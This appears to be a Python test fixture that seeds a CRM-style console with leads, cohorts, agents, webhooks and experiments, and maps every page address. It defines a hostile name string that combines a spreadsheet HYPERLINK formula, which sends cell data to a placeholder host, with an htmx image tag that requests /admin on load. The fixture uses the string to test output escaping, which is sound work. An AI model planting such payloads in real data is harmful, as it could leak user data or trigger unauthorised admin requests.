"""A small world that has something on every page, and the addresses of all pages in it.

With `hostile` names whatever can carry a name has one that asks to be taken for markup and for a spreadsheet's formula.
"""

from collections.abc import Callable, Mapping
from typing import Any

import httpx

from tests.console import world_attio, world_experiment

HOSTILE = '=HYPERLINK("http://x?"&A1)<img src=x hx-get=/admin hx-trigger=load>'

ADDRESSES: Mapping[str, str] = {
    "home": "/",
    "cohorts": "/cohorts",
    "cohort-new": "/cohorts/new",
    "cohort": "/cohorts/{dynamic}",
    "cohort-rule": "/cohorts/{dynamic}/rule",
    "cohort-edited": "/cohorts/{dynamic}/edit",
    "cohort-static": "/cohorts/{static}",
    "cohort-progress": "/cohorts/{static}/progress",
    "cohort-why": "/cohorts/{dynamic}/why?pii_id=lead-03",
    "cohort-changes": "/cohorts/{dynamic}/changes",
    "cohort-experiments": "/cohorts/{dynamic}/experiments",
    "profile": "/profile?who=lead-03",
    "profile-find": "/profile",
    "attio": "/attio?tab=people",
    "attio-lists": "/attio?tab=lists",
    "attio-imported": "/attio?tab=imported",
    "attio-connection": "/attio/connection",
    "import": "/attio/imports/{import}",
    "assign": "/assign?cohort={board}",
    "assignments": "/assignments",
    "assignment": "/assignments/{assignment}",
    "agents": "/agents",
    "agent": "/agents/edit?id=nora",
    "experiments": "/experiments",
    "experiment-new": "/experiments/new?cohort={dynamic}",
    "experiment": "/experiments/{experiment}",
    "experiment-edited": "/experiments/{experiment}/edit",
    "run": "/experiments/{experiment}/runs/{run}",
    "run-summary": "/experiments/{experiment}/runs/{run}/summary",
    "settings": "/settings",
    "fields": "/settings/fields",
    "webhooks": "/settings/webhooks",
    "webhook": "/settings/webhooks/{webhook}",
    "jobs": "/jobs",
    "job": "/jobs/{job}",
}
"""Every page behind signing in, by the name of its picture. `{…}` is one of the world's ids."""

NAMELESS = {"cohort-new", "jobs", "job", "profile-find", "attio", "attio-lists", "attio-connection", "import", "fields"}
"""Those of them that show no name of anything."""

PEOPLE = (
    "Ada Novak", "Ben Osei", "Cleo Marsh", "Dag Lund", "Elif Kaya", "Farid Haddad", "Grace Kim", "Hugo Blanc",
    "Inés Prado", "Jonas Weber", "Kaia Berg", "Liu Wen", "Maya Cohen", "Nour Said", "Olu Adeyemi", "Pia Rossi",
)  # fmt: skip
RULE = "lead.score > 50 and contact.country in ['US', 'FR', 'SE'] and not ('lost' in lead.tags)"


async def build(api: httpx.AsyncClient, *, hostile: bool = False) -> dict[str, str]:
    """Make it through the API; the ids that addresses name."""
    for place, person in enumerate(PEOPLE):
        await _put(api, f"lead-{place:02}", HOSTILE if hostile else person, place)
    name: Callable[[str], str] = (lambda _: HOSTILE) if hostile else (lambda text: text)
    (project,) = (await _sent(api.get("/v1/projects"))).json()["items"]
    await _sent(api.patch(f"/v1/projects/{project['id']}", json={"name": name("Northwind")}))
    dynamic = await _cohort(api, name("Hot leads"), description=name("Call today, the highest score first."), rule=RULE)
    static = await _cohort(api, name("Spring offer"), description=name("As they were in March."), rule=RULE)
    await _sent(api.patch(f"/v1/cohorts/{static}", json={"kind": "static"}))
    cold = await _cohort(api, name("Gone cold"), rule="lead.score < 20")
    await _cohort(api, name("Hot, and in Sweden"), rule=f"$in_cohort('{dynamic}') and contact.country == 'SE'")
    await _sent(api.put("/v1/contacts/reader", json={"name": name("Rae Lind")}))
    members = {"kind": "static", "members": ["lead-01", "lead-02", "lead-05", "lead-09", "reader"]}
    board = (await _sent(api.post("/v1/cohorts", json={"name": name("Advisory board"), **members}))).json()["id"]
    for place in range(2, 9):
        await _sent(api.patch(f"/v1/leads/lead-{place:02}", json={"score": 30 if place % 2 else 75 + place}))
    jobs = (await _sent(api.get("/v1/jobs"))).json()["items"]
    assignment = await _assignment(api, board, name)
    return {
        "dynamic": dynamic,
        "static": static,
        "board": board,
        "job": jobs[-1]["id"],
        "assignment": assignment,
        "webhook": await _webhook(api, name),
        "import": await world_attio.build(api, name),
        **await world_experiment.build(api, cold, name),
    }


def addresses(world: Mapping[str, str]) -> dict[str, str]:
    """Every page of this world, by name."""
    return {name: address.format(**world) for name, address in ADDRESSES.items()}


async def _assignment(api: httpx.AsyncClient, cohort: str, name: Callable[[str], str]) -> str:
    """Leads handed to two agents, of whom one gets more than it can take; a member that is no lead fails."""
    for agent, called, capacity in (("nora", "Nora Winter", 1), ("omar", "Omar Haddad", 6)):
        body = {"name": name(called), "email": f"{agent}@example.org", "daily_capacity": capacity}
        await _sent(api.put(f"/v1/agents/{agent}", json=body))
    body = {"agent_ids": ["nora", "omar"], "strategy": "round_robin"}
    done = await _sent(api.post(f"/v1/cohorts/{cohort}/assign", json=body))
    return str(done.json()["job_id"])


async def _webhook(api: httpx.AsyncClient, name: Callable[[str], str]) -> str:
    """A webhook with a message that waits: nobody sends here."""
    body = {"url": "https://1.1.1.1/muster", "events": ["cohort.entered"], "description": name("For the CRM")}
    made = (await _sent(api.post("/v1/webhooks", json=body))).json()
    await _sent(api.post(f"/v1/webhooks/{made['id']}/test"))
    return str(made["id"])


async def _put(api: httpx.AsyncClient, pii_id: str, name: str, place: int) -> None:
    score = (place * 37) % 100
    tags = ["spring", "annual-meeting-of-the-chambers-of-trade"]
    await _sent(api.put(f"/v1/leads/{pii_id}", json={"name": name, "score": score, "source": "fair", "tags": tags}))
    email = f"{name.split(maxsplit=1)[0].lower()}@example.org" if name != HOSTILE else HOSTILE
    country = ("US", "FR", "SE", "DE")[place % 4]
    await _sent(api.put(f"/v1/contacts/{pii_id}", json={"name": name, "email": email, "country": country}))


async def _cohort(api: httpx.AsyncClient, name: str, *, rule: str, description: str = "") -> str:
    body: dict[str, Any] = {"name": name, "description": description, "kind": "dynamic", "rule": rule}
    return str((await _sent(api.post("/v1/cohorts", json=body))).json()["id"])


async def _sent(request: Any) -> httpx.Response:
    answer: httpx.Response = await request
    assert answer.is_success, answer.text
    return answer
